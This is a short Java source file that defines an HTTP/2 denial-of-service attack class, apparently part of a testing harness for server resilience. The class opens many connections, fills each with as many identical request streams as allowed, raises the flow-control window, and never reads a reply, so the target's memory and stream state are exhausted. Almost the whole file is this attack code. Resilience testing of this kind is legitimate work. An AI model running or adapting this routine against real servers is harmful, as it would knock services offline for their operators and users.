package io.podwatcher.attack.client;

import io.netty.buffer.ByteBuf;
import io.netty.channel.ChannelHandlerContext;
import io.netty.handler.codec.http2.Http2Settings;
import java.util.Random;
import java.util.function.Supplier;

/**
 * HTTP/2 connections that open as many streams as they may, all with the same request, and never read an answer.
 *
 * @param connections how many
 * @param streams on each
 * @param request a header block
 * @param window what the server may send on each stream, in bytes
 */
public record Http2Streams(int connections, int streams, Supplier<ByteBuf> request, int window) implements Attack {

    @Override
    public AutoCloseable start(Target target, Random random) throws Exception {
        Connections open = Connections.http2(target);
        for (int i = 0; i < connections; i++) {
            open.connect(Target.attacker(i), false, new Http2Client(new Http2Settings().initialWindowSize(window)) {
                @Override
                void begin(ChannelHandlerContext context) {
                    frames().writeWindowUpdate(context, 0, Integer.MAX_VALUE - 65_535, context.newPromise());
                    for (int stream = 0; stream < streams; stream++) {
                        request(context, request.get());
                    }
                }
            });
        }
        open.awaitConnected();
        return open;
    }
}
